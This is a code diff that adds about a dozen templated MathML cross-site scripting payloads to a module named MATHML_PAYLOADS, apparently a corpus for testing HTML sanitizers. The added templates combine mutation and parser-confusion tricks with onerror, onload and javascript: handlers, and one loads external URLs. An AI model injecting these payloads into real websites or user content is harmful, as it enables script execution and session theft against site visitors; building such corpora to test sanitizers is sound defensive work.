@@ -68,5 +68,24 @@ export const MATHML_PAYLOADS = family('maths', {
   'nested-math': ({ js }) =>
     `<math><mtext><math><mtext><math href="javascript:${js}"><ms><script>${js}</script></ms></math></mtext></math></mtext></math>`,
   'clobbers-names': () => `<math id="cookie"><mi name="body" id="location">x</mi></math>`,
+  'fence-breaks-out': ({ js }) =>
+    `<math><mfenced open="<img src=x: onerror=${js}>" close='"><img src=x: onerror=${js}>' separators="<"><mi>x</mi><mi>y</mi></mfenced></math>`,
+  'fence-attribute': ({ js }) => `<math><mfenced onclick="${js}" href="javascript:${js}"><mi>x</mi></mfenced></math>`,
+  'fence-never-ends': ({ js }) => `<math><mfenced open="("><mi>x</mi><p><img src="x:" onerror="${js}">`,
+  'semantics-renamed': ({ js }) =>
+    `<math><semantics href="javascript:${js}"><mtext><svg onload="${js}"></svg></mtext><annotation><img src="x:" onerror="${js}"></annotation></semantics></math>`,
+  'annotation-hides-end': ({ js }) =>
+    `<math><annotation-xml encoding="text/html"><p title="</annotation-xml></math><img src=x: onerror=${js}>"></annotation-xml></math>`,
+  'unknown-hides-markup': ({ js }) =>
+    `<math><apply><mtext></apply><img src="x:" onerror="${js}"></mtext></apply></math>`,
+  'text-holds-table': ({ js }) =>
+    `<math><mtext><table><math><mi><img src="x:" onerror="${js}"></mi></math></table></mtext></math>`,
+  'text-holds-text': ({ js }) =>
+    `<math><mtext><mtext><mglyph><title><img src="x:" onerror="${js}"></title></mglyph></mtext></mtext></math>`,
+  'text-in-broken-table': ({ js }) =>
+    `<table><math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
+  'self-closed-text': ({ js }) => `<math><mtext/><img src="x:" onerror="${js}"></math>`,
+  'values-that-load': ({ url, js }) =>
+    `<math alttext="<img src=x: onerror=${js}>" notation="url(${url}.png)" columnlines="url(${url}.gif)"><mi altimg="${url}.svg">x</mi></math>`,
   cdata: ({ js }) => `<math><![CDATA[><img src="x:" onerror="${js}">]]></math>`,
 })
